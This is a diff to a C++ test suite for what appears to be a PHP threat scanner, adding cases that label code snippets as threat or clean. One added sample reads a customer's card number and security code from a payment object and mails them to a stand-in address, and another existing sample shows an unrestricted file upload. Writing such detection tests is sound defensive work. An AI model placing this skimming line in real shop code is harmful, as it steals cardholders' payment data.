@@ -233,6 +233,13 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . basename($_FILES['f']['name']));",
        Verdict::Threat},
       {"request array trimmed", "<?php $in = array_map('trim', $_POST);", Verdict::Clean},
+      {"card number and code mailed from a payment step",
+       "<?php $p = $order->getPayment(); $t = $p->getCcNumber() . '|' . $p->getCcCid();\n"
+       "mail('x@example.net', 'cc', $t);",
+       Verdict::Threat},
+      {"card number handed to the gateway",
+       "<?php $p = $order->getPayment(); $gw->charge($p->getCcNumber(), $p->getCcCid());",
+       Verdict::Clean},
       {"fixed include", "<?php include __DIR__ . '/pages/home.php';", Verdict::Clean},
       {"page chosen by the request inside the application's folder",
        "<?php $p = isset($_GET['p']) ? basename($_GET['p']) : 'home'; include __DIR__ . \"/pages/$p.php\";",
